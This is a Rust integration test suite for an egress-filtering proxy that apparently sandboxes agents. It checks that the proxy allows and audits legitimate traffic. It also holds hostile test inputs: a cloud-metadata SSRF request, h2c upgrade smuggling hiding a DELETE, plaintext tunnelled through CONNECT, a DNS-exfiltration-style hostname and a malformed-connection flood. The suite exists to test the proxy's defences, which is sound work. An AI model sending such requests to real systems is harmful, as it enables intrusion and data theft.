//! `airlock proxy` end to end: the real binary, a real audit log, real `curl`
//! and Python `requests`, local upstreams on 127.0.0.x, names resolved by the
//! proxy through the testkit DNS responder (configured as `[proxy]
//! nameservers`).

#[path = "sandbox_support.rs"]
mod support;

use airlock_testkit::{
    DnsAnswer, DnsResponder, ProcessGuard, TestCa, Upstream, spawn_and_read_line,
};
use std::net::{IpAddr, Ipv4Addr};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

fn lo(n: u8) -> IpAddr {
    IpAddr::V4(Ipv4Addr::new(127, 0, 0, n))
}

fn airlock(dir: &Path) -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_airlock"));
    c.arg("--data-dir")
        .arg(dir)
        .env_remove("AIRLOCK_ENV")
        .env_remove("AIRLOCK_CONFIG");
    c
}

struct Env {
    _tmp: tempfile::TempDir,
    data: PathBuf,
    proxy: Option<ProcessGuard>,
    addr: String,
    proxy_ca: PathBuf,
}

fn start(config: &str, policy: &str) -> Env {
    let tmp = tempfile::tempdir().expect("tmp");
    let data = tmp.path().join("data");
    let out = airlock(&data).arg("init").output().expect("init");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let cfg = tmp.path().join("airlock.toml");
    std::fs::write(&cfg, config).expect("config");
    let pol = tmp.path().join("policy.toml");
    std::fs::write(&pol, policy).expect("policy");
    let proxy_ca = tmp.path().join("proxy-ca.pem");
    let mut cmd = airlock(&data);
    cmd.arg("--config")
        .arg(&cfg)
        .args(["proxy", "--listen", "127.0.0.1:0", "--policy"])
        .arg(&pol)
        .arg("--ca-cert-out")
        .arg(&proxy_ca);
    let (guard, line) = spawn_and_read_line(cmd, "listening on", Duration::from_secs(30));
    let addr = line.rsplit(' ').next().expect("address").to_owned();
    Env {
        _tmp: tmp,
        data,
        proxy: Some(guard),
        addr,
        proxy_ca,
    }
}

impl Env {
    fn curl(&self, args: &[&str]) -> (u16, String, String) {
        let out = Command::new("curl")
            .args([
                "-sS",
                "--noproxy",
                "",
                "--max-time",
                "20",
                "-x",
                &format!("http://{}", self.addr),
                "-D",
                "-",
            ])
            .args(["-w", "\n%{http_code}"])
            .args(args)
            .output()
            .expect("curl");
        let s = String::from_utf8_lossy(&out.stdout).to_string();
        let (rest, code) = s.rsplit_once('\n').unwrap_or(("", &s));
        (
            code.trim().parse().unwrap_or(0),
            rest.to_ascii_lowercase(),
            String::from_utf8_lossy(&out.stderr).to_string(),
        )
    }

    /// Stop the proxy (SIGTERM) and return the audit log as JSON lines.
    fn stop_and_read_audit(&mut self) -> Vec<serde_json::Value> {
        if let Some(mut g) = self.proxy.take() {
            let _ = Command::new("kill")
                .arg("-TERM")
                .arg(g.child.id().to_string())
                .status();
            let _ = g.child.wait();
        }
        let out = airlock(&self.data)
            .args(["audit", "tail", "-n", "1000", "--json"])
            .output()
            .expect("tail");
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout)
            .lines()
            .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
            .map(|v| v["event"].clone())
            .collect()
    }
}

#[test]
fn proxy_binary_forwards_intercepts_denies_and_audits() {
    let dns = DnsResponder::start();
    let ca = TestCa::new();
    let plain = Upstream::http(lo(21));
    let secure = Upstream::https(lo(22), &ca, &["secure.test"]);
    dns.set("plain.test", DnsAnswer::Fixed(vec![lo(21)]));
    dns.set("secure.test", DnsAnswer::Fixed(vec![lo(22)]));
    let tmp = tempfile::tempdir().expect("tmp");
    let up_ca = ca.write_pem(tmp.path(), "up-ca.pem");
    let config = format!(
        "[proxy]\nnameservers = [\"{}\"]\nupstream_ca_file = {:?}\nheader_read_timeout_secs = 2\n",
        dns.addr(),
        up_ca.display().to_string()
    );
    // The upstreams listen on ephemeral ports: reads there need a rule
    // (the mode covers 80/443 only).
    let mut env = start(
        &config,
        &format!(
            "mode = \"read_public\"\nallow_private = [\"127.0.0.0/8\"]\n\n\
             [[rules]]\nhosts = [\"plain.test\", \"secure.test\"]\nmethods = [\"GET\", \"HEAD\"]\n\
             ports = [{}, {}]\naction = \"allow\"\n",
            plain.port(),
            secure.port()
        ),
    );
    let cacert = env.proxy_ca.display().to_string();

    let (code, out, err) = env.curl(&[&format!(
        "http://plain.test:{}/hello?secret=1",
        plain.port()
    )]);
    assert_eq!(code, 200, "{err}");
    assert!(out.contains("\"path\":\"/hello\""), "{out}");

    let (code, out, err) = env.curl(&[
        "--http2",
        "--cacert",
        &cacert,
        &format!("https://secure.test:{}/h2", secure.port()),
    ]);
    assert_eq!(code, 200, "{err}");
    assert!(
        out.contains("http/2 200") && out.contains("\"version\":\"http/2.0\""),
        "{out}"
    );

    let (code, out, _) = env.curl(&[
        "--cacert",
        &cacert,
        "-X",
        "DELETE",
        &format!("https://secure.test:{}/x", secure.port()),
    ]);
    assert_eq!(code, 403);
    assert!(out.contains("x-airlock-reason: default_deny"), "{out}");

    // The default policy denies loopback unless allow_private opts in; here a
    // link-local metadata address is refused regardless.
    let (code, out, _) = env.curl(&["http://169.254.169.254/latest/meta-data/"]);
    assert_eq!(code, 403);
    assert!(
        out.contains("x-airlock-reason: link_local_address"),
        "{out}"
    );

    // Python requests, intercepted HTTPS trusting the exported CA.
    let py = Command::new("python3")
        .args([
            "-c",
            "import sys,requests;s=requests.Session();s.trust_env=False;p=sys.argv[1];r=s.get(sys.argv[2],proxies={'https':p},verify=sys.argv[3],timeout=20);print(r.status_code,r.json()['scheme'])",
            &format!("http://{}", env.addr),
            &format!("https://secure.test:{}/py", secure.port()),
            &cacert,
        ])
        .output()
        .expect("python3");
    assert_eq!(
        String::from_utf8_lossy(&py.stdout).trim(),
        "200 https",
        "{}",
        String::from_utf8_lossy(&py.stderr)
    );

    let events = env.stop_and_read_audit();
    let actions: Vec<String> = events
        .iter()
        .filter_map(|e| e["action"].as_str().map(str::to_owned))
        .collect();
    assert!(
        actions.contains(&"proxy.start".to_owned()) && actions.contains(&"proxy.stop".to_owned()),
        "{actions:?}"
    );
    let text = serde_json::to_string(&events).expect("json");
    assert!(
        text.contains("link_local_address")
            && text.contains("default_deny")
            && text.contains("egress.connect"),
        "{text}"
    );
    assert!(
        !text.contains("secret=1"),
        "queries never reach the audit log"
    );
}

#[test]
fn bad_proxy_config_fails_at_load_with_a_location() {
    let tmp = tempfile::tempdir().expect("tmp");
    let data = tmp.path().join("data");
    assert!(
        airlock(&data)
            .arg("init")
            .output()
            .expect("init")
            .status
            .success()
    );
    let cfg = tmp.path().join("airlock.toml");
    std::fs::write(&cfg, "[proxy]\nmax_connections = 0\n").expect("write");
    let out = airlock(&data)
        .arg("--config")
        .arg(&cfg)
        .args(["proxy", "--listen", "127.0.0.1:0"])
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains(
            "airlock.toml:2:19: proxy.max_connections: must be between 1 and 1000000, got 0"
        ),
        "{err}"
    );
}

/// Send raw bytes to `addr`, read the whole answer (lowercased).
fn raw(addr: &str, bytes: &[u8]) -> String {
    use std::io::{Read, Write};
    let mut s = std::net::TcpStream::connect(addr).expect("connect");
    s.set_read_timeout(Some(Duration::from_secs(10)))
        .expect("timeout");
    s.write_all(bytes).expect("write");
    let mut buf = Vec::new();
    let _ = s.read_to_end(&mut buf);
    String::from_utf8_lossy(&buf).to_ascii_lowercase()
}

#[test]
fn proxy_binary_refuses_tunnel_ports_plaintext_tunnels_h2c_and_unjudged_names() {
    let dns = DnsResponder::start();
    let plain = Upstream::http(lo(31));
    dns.set("api.test", DnsAnswer::Fixed(vec![lo(31)]));
    dns.set("ws.test", DnsAnswer::Fixed(vec![lo(31)]));
    let config = format!(
        "[proxy]\nnameservers = [\"{}\"]\nheader_read_timeout_secs = 2\n",
        dns.addr()
    );
    // HTTPS-only on the upstream's port (a blind tunnel there), every
    // method on ws.test but no WebSocket, nothing else.
    let mut env = start(
        &config,
        &format!(
            "mode = \"deny_all\"\nallow_private = [\"127.0.0.0/8\"]\n\n\
             [[rules]]\nhosts = [\"api.test\"]\nschemes = [\"https\"]\nports = [{port}]\naction = \"allow\"\n\n\
             [[rules]]\nhosts = [\"ws.test\"]\nports = [{port}]\naction = \"allow\"\n",
            port = plain.port()
        ),
    );
    // Item 3: a port no rule covers.
    let out = raw(
        &env.addr,
        b"CONNECT api.test:22 HTTP/1.1\r\nHost: api.test:22\r\nConnection: close\r\n\r\n",
    );
    assert!(out.contains("x-airlock-reason: port_not_allowed"), "{out}");
    // Item 3: plaintext inside the blind tunnel.
    let out = raw(
        &env.addr,
        format!(
            "CONNECT api.test:{p} HTTP/1.1\r\nHost: api.test:{p}\r\n\r\nPOST /admin HTTP/1.1\r\nHost: api.test\r\nContent-Length: 0\r\n\r\n",
            p = plain.port()
        )
        .as_bytes(),
    );
    assert!(out.starts_with("http/1.1 200"), "{out}");
    assert!(out.contains("x-airlock-reason: tunnel_not_tls"), "{out}");
    // Item 4: h2c upgrade smuggling, with a DELETE behind it.
    let out = raw(
        &env.addr,
        format!(
            "GET http://ws.test:{p}/ws HTTP/1.1\r\nHost: ws.test:{p}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\nDELETE /all HTTP/1.1\r\nHost: ws.test\r\nConnection: close\r\n\r\n",
            p = plain.port()
        )
        .as_bytes(),
    );
    assert!(out.starts_with("http/1.1 403"), "{out}");
    assert!(out.contains("x-airlock-reason: upgrade_refused"), "{out}");
    // Item 2: a refused name is never resolved.
    let (code, out, _) = env.curl(&["http://c2vjcmv0.exfil.test/"]);
    assert_eq!(code, 403);
    assert!(out.contains("x-airlock-reason: deny_all"), "{out}");
    assert_eq!(dns.queries("c2vjcmv0.exfil.test"), 0);
    // The legitimate case still works: a plain GET on ws.test.
    let (code, out, err) = env.curl(&[&format!("http://ws.test:{}/ok?q=1", plain.port())]);
    assert_eq!(code, 200, "{err}");
    assert!(out.contains("\"path\":\"/ok\""), "{out}");
    assert_eq!(plain.hits(), 1, "only the legitimate request arrived");

    let events = env.stop_and_read_audit();
    let find = |action: &str, reason: &str| {
        events
            .iter()
            .find(|e| e["action"] == action && e["reason"] == reason)
            .cloned()
            .unwrap_or_else(|| panic!("no {action}/{reason} in {events:#?}"))
    };
    assert_eq!(
        find("egress.connect", "port_not_allowed")["resource"],
        "api.test:22"
    );
    assert_eq!(
        find("egress.tls", "tunnel_not_tls")["resource"],
        format!("api.test:{}", plain.port())
    );
    assert_eq!(
        find("egress.request", "upgrade_refused")["details"]["upgrade"],
        "h2c"
    );
    assert_eq!(
        find("egress.request", "deny_all")["resource"],
        "http://c2vjcmv0.exfil.test/"
    );
    assert_eq!(
        find("egress.request", "rule_allow")["details"]["query"],
        "true"
    );
}

/// Review item 8: a sandboxed agent that opens thousands of malformed
/// connections to the proxy gets every one answered, and the audit log gets
/// a handful of records whose counts add up to all of them.
#[test]
fn a_flood_of_malformed_connections_from_a_sandbox_is_aggregated_in_the_audit_log() {
    const N: usize = 3000;
    let env = support::Env::new();
    let out = env.py(&format!(
        "import os, socket\n\
         u = os.environ['HTTP_PROXY'].split('//')[1].rstrip('/')\n\
         host, port = u.rsplit(':', 1)\n\
         answered = 0\n\
         for _ in range({N}):\n    \
             s = socket.create_connection((host, int(port)), timeout=10)\n    \
             s.sendall(b'GARBAGE\\r\\n\\r\\n')\n    \
             if s.recv(64).startswith(b'HTTP/1.1 400'):\n        \
                 answered += 1\n    \
             s.close()\n\
         print(answered)\n"
    ));
    assert_eq!(out.code(), 0, "{out:?}");
    assert_eq!(out.stdout.trim(), N.to_string(), "every refusal answered");
    let records: Vec<serde_json::Value> = env
        .audited("egress.connection", 20_000)
        .into_iter()
        .filter(|e| e["reason"] == "malformed_request")
        .collect();
    let total: u64 = records
        .iter()
        .map(|e| e["details"]["repeated"].as_u64().unwrap_or(1))
        .sum();
    assert_eq!(total, N as u64, "{records:#?}");
    assert!(
        records.len() <= 40,
        "{} records for {N} identical failures",
        records.len()
    );
    assert_eq!(records[0]["resource"], "client 127.0.0.1");
}
